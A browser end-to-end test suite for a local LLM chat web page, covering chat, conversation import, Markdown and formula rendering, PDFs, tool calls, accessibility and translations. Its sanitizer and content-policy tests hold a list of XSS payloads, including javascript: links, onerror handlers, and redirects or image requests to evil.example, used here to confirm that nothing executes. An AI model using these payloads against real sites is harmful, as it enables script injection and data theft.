// The page in a real browser: node page.mjs BASE_URL CHROMIUM [FOLDER FOR PICTURES]
// What has to be the same each time (hostile answers, long ones) comes from streams made here; the rest from the model.
import assert from 'node:assert/strict';
import {readFile, rm, writeFile} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {answers, answerWith, browser, open, pieces, problems, rest, runAll, say, settled} from './page_kit.mjs';

const [pictures] = rest;
const picture = async (page, name) => pictures && page.screenshot({path: `${pictures}/${name}.png`});
/// The Machine tab sees the model as if it came from the disk and nobody guessed.
const asIfStreamed = page => page.route('**/api/millrace/live', async route => {
  const live = await (await route.fetch()).json();
  for (const model of live.models) {
    for (const row of model.plan.rows) row.tier = 'disk';
    Object.assign(model.plan, {tokens_per_second: 20});
    Object.assign(model.rates, {ram: 20e9, cpu_decode: 20e9, disk: 2e9});
    model.supposed_draft = {bytes: 5e8, acceptance: 0.7, guesses: 7, tokens_per_second: 50};
  }
  return route.fulfill({json: live});
});
const advised = page => page.waitForFunction(() => /--draft.*500.MB.*70.*50/.test(document.querySelector('#advice').textContent));
const fits = page => page.evaluate(() => document.documentElement.scrollWidth <= innerWidth);
const title = page => page.inputValue('#title');
const entries = page => page.locator('.entry').allTextContents();

async function talk(page) {
  const asked = [];
  page.on('request', request => request.url().endsWith('/api/chat') && asked.push(request.postDataJSON()));
  await page.click('#settings-open');
  await page.fill('#temperature', '0');
  await page.keyboard.press('Escape');
  assert.ok(await page.isHidden('#settings'), 'Escape closes the panel');
  await say(page, 'What is the capital of France?');
  await settled(page);
  assert.deepEqual(await answers(page), ['The capital of France is Paris.']);
  assert.deepEqual(asked.at(-1).options, {temperature: 0}, 'only what is set is sent');
  assert.match(await page.locator('.turn.assistant').last().textContent(), /tok\/s/);
  assert.equal(await page.textContent('#status'), '', 'figures are shown once');
  await page.reload();
  await page.waitForFunction(() => document.querySelector('#model').options.length > 0);
  assert.equal(await page.inputValue('#temperature'), '0', 'parameters are kept');
  assert.equal(await title(page), '', 'a page begins anew');
  await page.click('.entry');
  assert.equal(await title(page), 'What is the capital of France?');
  assert.deepEqual(await answers(page), ['The capital of France is Paris.'], 'conversations are kept');

  await page.click('.again');
  await settled(page);
  assert.match(await page.textContent('.turn.assistant .turn-tools'), /2\/2/, 'another answer is another branch');
  await page.click('.turn.user .edit');
  await page.fill('.editor textarea', 'What is the capital of Italy?');
  await page.click('.editor button');
  await settled(page);
  assert.match((await answers(page))[0], /Rome|Italy/);
  await page.click('.turn.user [aria-label="Previous version"]');
  assert.deepEqual(await answers(page), ['The capital of France is Paris.']);

  // A long prompt tells how far it is.
  await page.evaluate(() => {
    window.said = [];
    new MutationObserver(() => said.push(document.querySelector('#status').textContent)).observe(document.querySelector('#status'), {childList: true});
  });
  await page.click('#settings-open');
  await page.fill('#num_predict', '1');
  await say(page, 'The fox took the lantern and went into the wood. '.repeat(110));
  await settled(page);
  assert.ok((await page.evaluate(() => said)).some(text => /Reading the prompt: [\d,]+ of 1,\d+ tokens/.test(text)), 'progress');
  assert.equal(await page.isHidden('#reading'), true);
  await page.fill('#num_predict', '');
  await page.click('#reset');
  await page.click('#settings-close');
}

async function conversations(page) {
  await page.click('#new');
  await answerWith(page, pieces('First **answer** with a lighthouse.'));
  await say(page, 'One more');
  await settled(page);
  await page.fill('#title', 'A renamed one');
  await page.press('#title', 'Enter');
  await page.waitForFunction(() => [...document.querySelectorAll('.entry')].some(entry => entry.textContent === 'A renamed one'));
  await page.fill('#search', 'LIGHTHOUSE');
  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 1);
  assert.deepEqual(await entries(page), ['A renamed one']);
  await page.fill('#search', '');
  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 2);
  const save = async button => {
    const [download] = await Promise.all([page.waitForEvent('download'), page.click(button)]);
    return readFile(await download.path(), 'utf8');
  };
  assert.match(await save('#export'), /^# A renamed one\n\n## user\n\nOne more\n\n## demo-moe-q4_k_m\n\nFirst \*\*answer/);
  const all = JSON.parse(await save('#export-all'));
  assert.equal(all.conversations.length, 2);
  page.once('dialog', dialog => dialog.accept());
  await page.click('#remove');
  await page.waitForFunction(() => document.querySelectorAll('.entry').length === 1);
  // What others wrote is checked: turns that point ahead, strangers' roles, markup in names.
  const turn = (parent, role, content) => ({parent, role, content});
  all.conversations.push({title: '<img src=x onerror=hacked=1>', turns: [turn(-1, 'user', 'q'), turn(0, 'assistant', 'a'), turn(7, 'user', 'lost')], head: 9},
                         {turns: 'no'}, null, {title: 'x', turns: [turn(-1, 'root', 'q')]});
  const file = `${tmpdir()}/millrace-page-${process.pid}.json`;
  await writeFile(file, JSON.stringify(all));
  await page.setInputFiles('#import-file', file);
  await page.waitForFunction(() => document.querySelector('#side-note').textContent === '3 imported');
  await page.waitForSelector('.entry:has-text("<img src=x onerror=hacked=1>")');
  await page.click('.entry:has-text("onerror")');
  assert.deepEqual(await answers(page), ['a']);
  await writeFile(file, '{"format": 1}');
  await page.setInputFiles('#import-file', file);
  await page.waitForFunction(() => /no conversations/.test(document.querySelector('#side-note').textContent));
  await rm(file);
}

const MARKDOWN = `# Title

A **bold** word, \`code\`, \\(x_1 + y_2\\), $e^{i\\pi} = -1$, $5 or US$6, https://example.com/?a=1&b=2 and [a link](https://example.com "t").

| name | count |
|------|------:|
| one  |     1 |

$$
\\sqrt{\\frac{a}{b}}

- \\int_0^1 x\\,dx
$$
and \\(\\frac{broken\\).

1. first

   \`\`\`make
   all:
   \`\`\`
2. second
- [x] done

\`\`\`python
def f(x):
\treturn "</code>" + x  # note
\`\`\`

שלום עולם, this is **rtl**.

The end`;

async function markdown(page) {
  await page.click('#new');
  await answerWith(page, pieces(MARKDOWN));
  await page.evaluate(() => {
    window.spoken = [];
    new MutationObserver(list => spoken.push(...list.flatMap(one => [...one.addedNodes].map(node => node.textContent))))
      .observe(document.querySelector('#spoken'), {childList: true, subtree: true});
  });
  await say(page, 'Show me Markdown');
  await settled(page);
  const text = page.locator('.turn.assistant .text');
  assert.equal(await text.locator('strong').first().textContent(), 'bold');
  assert.equal(await text.locator('td[align=right]').textContent(), '1');
  assert.equal(await text.locator('.katex').count(), 3, 'prices are no formulas');
  assert.deepEqual(await text.locator('.katex annotation').allTextContents(), ['x_1 + y_2', 'e^{i\\pi} = -1', '\n\\sqrt{\\frac{a}{b}}\n\n- \\int_0^1 x\\,dx\n']);
  assert.equal(await text.locator('.katex-display').count(), 1, 'a formula of its own line may have empty ones');
  assert.equal(await text.locator('.formula').textContent(), '\\(\\frac{broken\\)', 'what is no formula stays as it is written');
  await page.evaluate(() => document.fonts.ready);
  assert.ok(await page.evaluate(() => document.fonts.check('16px KaTeX_Main')), 'in its own fonts, from this server');
  assert.ok(await text.locator('.katex-html [style]').count() > 3, 'with sizes');
  assert.equal(await text.locator('a').first().getAttribute('href'), 'https://example.com/?a=1&b=2');
  assert.equal(await text.locator('a').first().getAttribute('rel'), 'noopener noreferrer nofollow');
  assert.equal(await text.locator('.code').count(), 2, 'a fence within a list is one, too');
  assert.equal(await text.locator('.hljs-keyword').first().textContent(), 'def');
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await text.locator('.code button').last().click();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'def f(x):\n\treturn "</code>" + x  # note');
  assert.equal(await text.locator('p:has-text("rtl")').evaluate(p => getComputedStyle(p).direction), 'rtl');
  assert.equal(await text.locator('p:has-text("The end")').evaluate(p => getComputedStyle(p).direction), 'ltr');
  const spoken = await page.evaluate(() => spoken);
  assert.equal(spoken.filter(one => one === 'Title').length, 1, 'each block is said once');
  assert.equal(spoken.at(-1), 'The end');
  await picture(page, 'markdown');
}

const HOSTILE = [
  '<script>hacked=1</script>', '<img src=x onerror=hacked=1>', '<svg/onload=hacked=1>', '<iframe src="javascript:hacked=1"></iframe>',
  '[a](javascript:hacked=1)', '[a](JaVaScRiPt:hacked=1)', '[a](java&#115;cript:hacked=1)', '[a](&#x6A;avascript:hacked=1)', '[a](data:text/html,<script>hacked=1</script>)',
  '<javascript:hacked=1>', '[a][b]\n\n[b]: javascript:hacked=1', '[a](https://x.y "t\\" onclick=hacked=1 x=\\"")', '![a](x" onerror="hacked=1)',
  '![a](https://evil.example/?q=secret)', '```"><img src=x onerror=hacked=1>\ncode\n```', '```html\n<img src=x onerror=hacked=1>\n```',
  '| <b onmouseover=hacked=1>x</b> |\n|---|\n| <img src=x onerror=hacked=1> |', '`<img src=x onerror=hacked=1>`', '<math><mtext><style><img src=x onerror=hacked=1></style></mtext></math>',
  '<form><input name=attributes></form>', '<style>*{display:none}</style>', '<base href=https://evil.example>', '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a href="https://x.y" style="position:fixed;inset:0">x</a>', '<div class="turn error" id="log">x</div>', '\\(<img src=x onerror=hacked=1>\\)', '<!--><img src=x onerror=hacked=1>-->',
  '- [x] <img src=x onerror=hacked=1>', '# <img src=x onerror=hacked=1>', '&lt;img src=x onerror=hacked=1&gt;', '\u202Egnp.exe',
  '$\\href{javascript:hacked=1}{x}$', '$\\htmlStyle{position:fixed;inset:0}{x}$', '$\\includegraphics{https://evil.example/a.png}$', '$\\text{<img src=x onerror=hacked=1>}$',
  '$\\color{red;position:fixed}x$', '$$\\def\\a{\\a\\a}\\a$$', '$\\sqrt[3]{x}\\overbrace{y}$', '$\\rule{900em}{900em}$', '[a](http://[::1]:99999999/)', '<https://x.y/"onclick="hacked=1>',
];
const ALLOWED = new Set(['P', 'BR', 'HR', 'H1', 'UL', 'OL', 'LI', 'PRE', 'CODE', 'SPAN', 'EM', 'STRONG', 'DEL', 'A', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'DIV', 'BUTTON']);
const OF_KATEX = new Set(['SPAN', 'math', 'semantics', 'annotation', 'mrow', 'mi', 'mn', 'mo', 'mtext', 'mspace', 'mroot', 'msqrt', 'mover', 'mstyle', 'mpadded', 'svg', 'path']);
const KATEX_STYLE = /^((height|width|min-width|top|left|vertical-align|margin-(left|right|top)|padding-left|border-(bottom|right|top)-width|color|background-color|border-color): (rgb\([\d, ]+\)|[^;:()]+); ?)*$/;

async function hostile(page) {
  await page.click('#new');
  const call = {function: {name: '<img src=x onerror=hacked=1>', arguments: {a: '<script>hacked=1</script>'}}};
  await answerWith(page, [{thinking: HOSTILE.join('\n')}, ...HOSTILE.map(content => ({content: content + '\n\n'})), {content: '', tool_calls: [call]}]);
  await say(page, '<img src=x onerror=hacked=1>');
  await settled(page);
  const found = await page.evaluate(() => [...document.querySelectorAll('.turn.assistant .text *')].map(element => ({
    tag: element.tagName, ofKatex: Boolean(element.closest('.katex, .katex-display')), attributes: [...element.attributes].map(one => [one.name, one.value])})));
  const names = new Set(['href', 'class', 'dir', 'target', 'rel', 'title', 'tabindex', 'type', 'start', 'align']);
  for (const {tag, ofKatex, attributes} of found) {
    if (ofKatex) {
      assert.ok(OF_KATEX.has(tag), tag);
      for (const [name, value] of attributes) {
        assert.match(name, /^(class|style|viewBox|preserveAspectRatio|width|height|d|encoding|display|stretchy|mathvariant|scriptlevel|displaystyle|accent|fence|separator)$/);
        if (name === 'style') assert.match(value, KATEX_STYLE);
      }
      continue;
    }
    assert.ok(ALLOWED.has(tag), tag);
    for (const [name, value] of attributes) {
      assert.ok(names.has(name), `${tag} ${name}`);
      if (name === 'href') assert.match(value, /^https?:/);
      if (name === 'class') assert.match(value, /^(|code|code-head|table|plain small|plain-text|formula|(hljs-|language-)\S*( hljs-\S+)*)$/);
    }
  }
  assert.ok(found.some(one => one.ofKatex && one.tag === 'svg'), 'roots are drawn');
  assert.equal(await page.locator('#log img').count(), 0, 'no picture is fetched');
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.ok((await answers(page))[0].includes('<script>hacked=1</script>'), 'markup is shown as what it is');
  // The policy holds where all else fails.
  const refused = await page.evaluate(async () => {
    const tries = [() => { document.body.innerHTML = '<b>'; }, () => { document.createElement('script').src = 'data:,hacked=1'; }, () => fetch('https://evil.example'), () => new Worker('data:,')];
    const results = [];
    for (const one of tries) results.push(await (async () => one())().then(() => 'went', () => 'refused'));
    return results;
  });
  assert.deepEqual(refused, ['refused', 'refused', 'refused', 'refused']);
  problems.length = 0;  // the browser said so, too
  // What keeps the worker busy for too long is plain text.
  const plain = await page.evaluate(async () => {
    const {Drawing, limits} = await import('/page/markdown.js');
    const patience = limits.patience, element = document.createElement('div');
    limits.patience = 0;
    await new Drawing(element).finish('**a** <b>');
    limits.patience = patience;
    return element.textContent + element.children.length;
  });
  assert.equal(plain, '**a** <b>1');
}

async function longAnswers(page) {
  // One block that never ends, and many: neither may be drawn anew with each piece.
  for (const text of ['word '.repeat(16_000), 'A paragraph.\n\n'.repeat(2_000)]) {
    await page.click('#new');
    const list = [];
    for (let at = 0; at < text.length; at += text.length / 4_000) list.push({content: text.slice(at, at + text.length / 4_000)});
    await answerWith(page, list);
    const began = performance.now();
    await say(page, 'Much');
    await settled(page);
    const seconds = (performance.now() - began) / 1000;
    assert.ok(seconds < 30, `4,000 pieces took ${seconds.toFixed(1)} s`);
    assert.equal((await answers(page))[0].replace(/\s+/g, ''), text.replace(/\s+/g, ''));
  }
}

/// PDFs as a browser prints them: the fonts in them name their characters in tables of their own.
async function pdfs(page) {
  const printer = await (await browser.newContext()).newPage();
  await printer.setContent('<h1>Über den Fluss</h1><p>Zweite Zeile, naïve façade.</p><p style="break-before: page">On page two: 日本語.</p>');
  const buffer = await printer.pdf();
  await printer.setContent('<svg width="50" height="50"><rect width="9" height="9"/></svg>');
  const blank = await printer.pdf();
  await printer.close();
  await page.click('#new');
  const asked = [], attach = (name, buffer) => page.setInputFiles('#attach-file', {name, mimeType: 'application/pdf', buffer});
  const refused = name => page.waitForFunction(name => document.querySelector('#problem').textContent.startsWith(name), name);
  await attach('blank.pdf', blank);
  await refused('blank.pdf');
  await attach('broken.pdf', Buffer.from('%PDF-1.4 and nothing else'));
  await refused('broken.pdf');
  await attach('fluss.pdf', buffer);
  await page.waitForSelector('li.file');
  assert.equal(await page.locator('li.file').count(), 1, 'pictures of text and broken files are refused');
  await answerWith(page, pieces('Read.'), asked);
  await say(page, 'Sum it up');
  await settled(page);
  assert.match(asked[0].messages[0].content, /^fluss\.pdf\n```pdf\nÜber den Fluss\nZweite Zeile, naïve façade\.\s+On page two: 日本語\.\n```\n\nSum it up$/);
}

async function toolsAndThoughts(page) {
  await page.click('#new');
  const asked = [], tool = {type: 'function', function: {name: 'weather', parameters: {type: 'object'}}};
  await page.click('#settings-open');
  await page.click('#settings details > summary');
  await page.fill('#tools', '{');
  assert.match(await page.textContent('#settings-problem'), /JSON/);
  await say(page, 'not sent');
  assert.match(await page.textContent('.turn.error'), /JSON/);
  await settled(page);
  await page.click('#new');
  await page.fill('#tools', JSON.stringify([tool]));
  await page.fill('#schema', '{"type": "object"}');
  await answerWith(page, [{thinking: 'Hm. '}, {thinking: 'Rain?'}, {content: 'Let me look.'}, {content: '', tool_calls: [{function: {name: 'weather', arguments: {city: 'Rome'}}}]}], asked);
  await page.setInputFiles('#attach-file', [{name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('a ``` fence')},
                                            {name: 'sound.bin', mimeType: 'application/octet-stream', buffer: Buffer.from([0x89, 0, 0xff])}]);
  await page.waitForFunction(() => /sound.bin/.test(document.querySelector('#problem').textContent));
  await page.waitForSelector('li.file');
  assert.equal(await page.locator('li.file').count(), 1, 'what is no text is refused');
  await say(page, 'What is the weather?');
  await settled(page);
  assert.deepEqual([asked[0].tools, asked[0].format, asked[0].messages], [[tool], {type: 'object'}, [{role: 'user', content: 'notes.md\n````md\na ``` fence\n````\n\nWhat is the weather?'}]]);
  assert.equal(await page.locator('.thought').getAttribute('open'), null, 'thoughts are folded');
  assert.equal(await page.locator('.thought > div').textContent(), 'Hm. Rain?');
  assert.equal(await page.textContent('.call'), 'weather({"city":"Rome"})');
  await answerWith(page, pieces('Sunny.'), asked);
  await page.fill('.calls textarea', '24 degrees');
  await page.click('.calls button');
  await settled(page);
  assert.deepEqual(asked[1].messages.slice(1), [{role: 'assistant', content: 'Let me look.', tool_calls: [{function: {name: 'weather', arguments: {city: 'Rome'}}}]},
                                                {role: 'tool', tool_name: 'weather', content: '24 degrees'}]);
  assert.equal((await answers(page)).at(-1), 'Sunny.');
  await page.unroute('**/api/chat');
  await page.click('#reset');
  await page.click('#settings-close');
}

async function machine(page) {
  await page.focus('#tab-chat');
  await page.keyboard.press('ArrowRight');
  await page.waitForSelector('#list li');
  assert.ok((await page.textContent('#list')).includes('loaded'));
  await picture(page, 'models');
  await page.keyboard.press('ArrowRight');
  await page.waitForSelector('#live:not([hidden])');
  await page.waitForSelector('.history');
  await page.waitForFunction(() => /RAM.*of the model/.test(document.querySelector('.tier').textContent));  // a look may still show what readable() made up
  assert.equal(await page.locator('.beside tr').count(), 4);
  assert.deepEqual(await page.$eval('#heat-frame canvas', canvas => [canvas.dataset.layers, canvas.dataset.experts]), ['6', '16'], 'a row a layer, a column an expert');
  const box = await page.locator('#heat-frame canvas').boundingBox();
  await page.locator('#heat-frame canvas').hover({position: {x: box.width - 5, y: box.height - 5}});
  assert.match(await page.getAttribute('#heat-frame canvas', 'title'), /Layer 5, expert 15: /);
  await page.waitForFunction(() => /All weights are in RAM/.test(document.querySelector('#advice').textContent));
  assert.match(await page.textContent('#guesses'), /No tokens have been guessed|guesses were right/);
  await picture(page, 'machine');
  await page.click('#theme');
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
  const advice = await page.evaluate(async () => {
    const {advise} = await import('/page/advice.js');
    const model = {parameters: 8e9, size: 8e9};
    const row = (tier, what, size, used) => ({tier, what, bytes: size * 1e9, bytes_per_token: used * 1e9});
    const at = (rows, rates, speed) => ({plan: {rows, tokens_per_second: speed}, rates: {disk: 2e9, ram: 20e9, cpu_decode: 30e9, ...rates}, stall_ns: 6, pass_ns: 10, queued: 0, live: 1, max_sequences: 1});
    const streams = at([row('ram', 'trunks', 4, 4), row('disk', 'trunks', 4, 4)], {}, 0.5);
    const supposed_draft = {bytes: 5e8, acceptance: 0.7, guesses: 7, tokens_per_second: 1.4};
    return [advise(streams, model), advise(at([row('ram', 'all', 4, 4)], {ram: 0, cpu_decode: 0}, 0), {parameters: 0, size: 0}),
            advise({...streams, supposed_draft}, model), advise({...streams, supposed_draft: {...supposed_draft, tokens_per_second: 0.5}}, model),
            advise({...at([row('ram', 'all', 8, 8)], {}, 2.5), supposed_draft}, model), advise({...streams, plan: {...streams.plan, tokens_per_second: 0}, supposed_draft}, model)];
  });
  assert.deepEqual(advice[0].map(line => Math.round(10 * line.factor) / 10), [5, 5, 0], 'times as fast');
  assert.deepEqual(advice[0].map(({key, values}) => ({key, values})), [
    {key: 'moreRamSpeed', values: {more: '4.0 GB', speed: '2.5'}},
    {key: 'fewerBitsSpeed', values: {bits: '8.0', to: 'Q4_K_M', size: '4.8 GB', speed: '2.5'}},  // 0.8 GB of 4 still come from the disk at 2 GB/s
    {key: 'waits', values: {percent: '60'}}]);
  assert.deepEqual(advice[1].map(line => line.key), ['allInRam', 'waits', 'calibrate']);
  assert.deepEqual(advice[2][2], {factor: 1.4 / 0.5, key: 'draftSpeed', values: {size: '500 MB', guesses: '7', percent: '70', speed: '1.4'}});
  const keys = list => list.map(line => line.key);
  assert.deepEqual(keys(advice[3]), keys(advice[0]), 'a draft that brings nothing is none');
  assert.deepEqual(keys(advice[4]), ['fewerBitsSpeed', 'waits'], 'nothing streams');
  assert.deepEqual(keys(advice[5]), ['moreRam', 'fewerBits', 'draft', 'waits', 'calibrate'], 'nothing is predicted');
  const looks = await page.evaluate(async () => {
    const {Meter} = await import('/page/plan.js');
    const meter = new Meter(), seen = [];
    const at = {passes: 0, rows: 0, decode_tokens: 0, pass_ns: 0, stall_ns: 0, time_ns: 0, drafts: [], tiers: [{moved: 0}, {moved: 0}]};
    let before = at;
    // Passes of 10 ms in a second, with rows of prompts and tokens: of one reader alone, with a short prompt, a long one, with drafts.
    for (const [passes, prompt, tokens, drafted, right] of [[100, 0, 100, 0, 0], [101, 20, 99, 0, 0], [100, 5000, 50, 0, 0], [100, 0, 250, 300, 150]]) {
      const drafts = [{drafted: (before.drafts[0]?.drafted ?? 0) + drafted, right: (before.drafts[0]?.right ?? 0) + right}];
      const now = {...before, passes: before.passes + passes, rows: before.rows + prompt + tokens - right + drafted, decode_tokens: before.decode_tokens + tokens,
                   pass_ns: before.pass_ns + passes * 1e7, time_ns: before.time_ns + 1e9, drafts,
                   tiers: [{moved: before.tiers[0].moved + 2e6 * tokens}, {moved: before.tiers[1].moved + 1e6 * tokens}]};
      const {readerPerSecond, usedPerToken, sequences} = meter.add(before, now);
      seen.push([readerPerSecond, usedPerToken, sequences].map(value => Math.round(value)));
      before = now;
    }
    return seen;
  });
  assert.deepEqual(looks, [[100, 2e6, 1], [100, 2e6, 1], [100, 2e6, 1], [250, 2e6, 1]]);
}

/// Every control has a name; nobody has to see it.
async function named(page) {
  const unnamed = await page.evaluate(() => [...document.querySelectorAll('button, input, select, textarea, progress')].filter(element =>
    !(element.getAttribute('aria-label') || element.textContent.trim() || element.closest('label')?.textContent.trim() || element.hidden || element.id === 'progress'))
    .map(element => element.outerHTML));
  assert.deepEqual(unnamed, []);
}

/// What is read has 4.5 times the light of what lies behind it, or as much less (WCAG AA), light and dark.
async function readable(page) {
  await asIfStreamed(page);
  for (const theme of ['light', 'dark']) for (const view of ['chat', 'machine']) {
    await page.click('#tab-' + view);
    await page.evaluate(theme => { document.documentElement.dataset.theme = theme; }, theme);
    await page.waitForTimeout(100);
    if (view === 'machine') await advised(page);
    const faint = await page.evaluate(() => {
      const canvas = document.createElement('canvas').getContext('2d', {willReadFrequently: true});
      const rgba = colour => {
        canvas.clearRect(0, 0, 1, 1);
        canvas.fillStyle = colour;
        canvas.fillRect(0, 0, 1, 1);
        return [...canvas.getImageData(0, 0, 1, 1).data];
      };
      const linear = part => ((part / 255 + 0.055) / 1.055) ** 2.4;
      const light = ([r, g, b]) => 0.2126 * linear(r) + 0.7152 * linear(g) + 0.0722 * linear(b);
      const behind = element => {
        for (; element; element = element.parentElement) {
          const colour = rgba(getComputedStyle(element).backgroundColor);
          if (colour[3] > 250) return colour;
        }
        return [255, 255, 255];
      };
      const found = new Set();
      for (const element of document.querySelectorAll('body *')) {
        const own = [...element.childNodes].some(node => node.nodeType === 3 && node.data.trim());
        if (!own || !element.checkVisibility({opacityProperty: true}) || element.closest('.sr, option, :disabled, .turn-tools')) continue;
        const [a, b] = [light(rgba(getComputedStyle(element).color)), light(behind(element))].sort((x, y) => y - x);
        if ((a + 0.05) / (b + 0.05) < 4.5) found.add(`${element.tagName}.${element.className} ${((a + 0.05) / (b + 0.05)).toFixed(1)}`);
      }
      return [...found];
    });
    assert.deepEqual(faint, [], `${theme} ${view}`);
  }
  await page.unroute('**/api/millrace/live');
  await page.evaluate(() => { delete document.documentElement.dataset.theme; });
  await page.click('#tab-chat');
}

async function phone() {
  const page = await open({viewport: {width: 360, height: 640}, colorScheme: 'dark', hasTouch: true, isMobile: true});
  await answerWith(page, pieces(MARKDOWN));
  await page.fill('#prompt', 'one');
  await page.press('#prompt', 'Enter');
  await page.keyboard.type('two');
  assert.equal(await page.inputValue('#prompt'), 'one\ntwo', 'Enter breaks the line');
  await page.click('#send');
  await settled(page);
  assert.equal(await page.textContent('.said'), 'one\ntwo');
  await asIfStreamed(page);
  for (const view of ['chat', 'models', 'machine']) {
    await page.click('#tab-' + view);
    await page.waitForTimeout(150);
    if (view === 'machine') await advised(page);
    assert.ok(await fits(page), `${view} is wider than a phone`);
    await picture(page, 'phone-' + view);
  }
  await page.click('#tab-chat');
  await page.click('#side-open');
  assert.ok(await page.isVisible('#conversations'));
  await page.click('#new');
  assert.ok(await page.isHidden('#conversations'));
  assert.equal(await page.locator('.example').count(), 3);
  assert.ok(await fits(page), 'the first run is wider than a phone');
  await page.click('#settings-open');
  assert.ok(await fits(page), 'the settings are wider than a phone');
  await page.click('#settings-close');
  assert.ok(await page.isHidden('#settings'));
}

async function inOtherLanguages() {
  const models = ['a:latest', 'b:latest'].map(name => ({name, size: 1, details: {}}));
  const page = await open({locale: 'de-DE'}, async page => {
    await page.route('**/api/tags', route => route.fulfill({json: {models}}));
    await page.route('**/api/ps', route => route.fulfill({json: {models: [models[1]]}}));
    await page.route('**/api/show', route => route.fulfill({json: {parameters: 'temperature                    0.6\nstop                           "x"'}}));
  });
  assert.equal(await page.inputValue('#model'), 'b:latest', 'the model that is loaded is the one that is asked');
  await page.waitForFunction(() => document.querySelector('#temperature').placeholder === '0.6');
  assert.equal(await page.textContent('#tab-machine'), 'Maschine');
  assert.equal(await page.evaluate(() => document.documentElement.lang), 'de');
  await Promise.all([page.waitForNavigation(), page.selectOption('#language', 'ja')]);
  await page.waitForFunction(() => document.querySelector('#send').textContent === '送信');
  const wrong = await page.evaluate(async () => {
    const {languages} = await import('/page/words.js');
    const places = text => (text?.match(/\{\w+\}/g) ?? ['none']).sort().join();
    return Object.keys(languages).flatMap(name => Object.keys({...languages.en, ...languages[name]}).filter(
      key => !(key in languages[name]) || !(key in languages.en) || places(languages.en[key]) !== places(languages[name][key])).map(key => `${name} ${key}`));
  });
  assert.deepEqual(wrong, [], 'every language has every phrase, with the same values');
}

/// A server that asks for a key, one that goes away in the middle of an answer, and one that is not there.
async function trouble() {
  const page = await open({}, async page => {
    await page.route('**/api/tags', async route => {
      if (await route.request().headerValue('authorization') === 'Bearer secret') return route.continue();
      return route.fulfill({status: 401, json: {error: 'the API key is missing or wrong'}});
    });
    page.once('domcontentloaded', async () => {
      await page.fill('#key:focus', 'secret');
      await page.press('#key', 'Enter');
    });
  });
  assert.equal(await page.inputValue('#model'), 'demo-moe-q4_k_m:latest');
  await page.route('**/api/chat', route => route.fulfill({body: '{"message": {"content": "Half an"}}\n'}));
  await say(page, 'One');
  await settled(page);
  assert.deepEqual(await answers(page), ['Half an']);
  assert.equal(await page.textContent('.turn.error'), 'The server ended the answer early. Retry');
  await page.unroute('**/api/chat');
  await page.route('**/api/chat', route => route.abort());
  await say(page, 'Two');
  await settled(page);
  assert.equal(await page.locator('.turn.error').last().textContent(), 'The server does not answer. Retry');
  problems.length = 0;  // the browser told of each
}

try {
  const page = await open();
  await runAll(page, {talk, conversations, markdown, readable, hostile, longAnswers, pdfs, toolsAndThoughts, machine, named});
  await phone();
  await inOtherLanguages();
  await trouble();
  assert.deepEqual(problems, []);
  console.log('ok');
} finally {
  await browser.close();
}
